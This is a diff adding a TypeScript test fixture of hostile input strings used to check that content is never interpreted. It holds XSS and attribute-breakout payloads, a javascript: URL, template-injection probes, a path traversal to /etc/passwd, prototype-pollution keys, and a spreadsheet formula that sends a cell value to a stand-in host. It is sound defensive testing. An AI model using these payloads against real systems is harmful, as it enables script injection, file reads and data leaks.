@@ -1,0 +1,22 @@
+/** What somebody might write into a content file, an address or a box. Wherever it arrives, it stays text. */
+export const hostile: Record<string, string> = {
+  script: '<script>ran.push(1)</script>',
+  'event handler': '<img src="" alt="" onerror="ran.push(2)">',
+  'end of an attribute': `"' onfocus="ran.push(3)" autofocus x='`,
+  'end of elements': '</title></textarea></script></style></svg><img src="" alt="" onerror="ran.push(4)">',
+  comment: '<!-- --!> <![CDATA[ ]]> <?x ?> <!DOCTYPE x>',
+  entities: '&lt;img&gt; &amp;amp; &#x3c;b&#62; &nope; &',
+  'address of a script': 'javascript:ran.push(5)//',
+  quotes: '"\'`„“”‘’${ran.push(6)}\\',
+  'turned round': '\u202e行政\u2066审批\u2069\u202c\u200f',
+  invisible: '行\u200b政\u00ad\ufeff',
+  control: '行政\u0000\u0007\u001b[31m\u007f',
+  'half a character': '\ud800行政\udc00',
+  'line ends': '行政\r\nEND:VEVENT\r\nX-A:1\u2028\u2029\n',
+  formula: '=HYPERLINK("https://other.invalid/"&A1,"+-@")',
+  separators: '; , \t | a=b&c=d #x ?y %E0%A4%A %00 +',
+  path: '../../../etc/passwd\\..\\%2e%2e%2f',
+  names: '__proto__ constructor toString hasOwnProperty',
+  template: '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> $& $1 $`',
+  long: '行政'.repeat(5_000),
+};
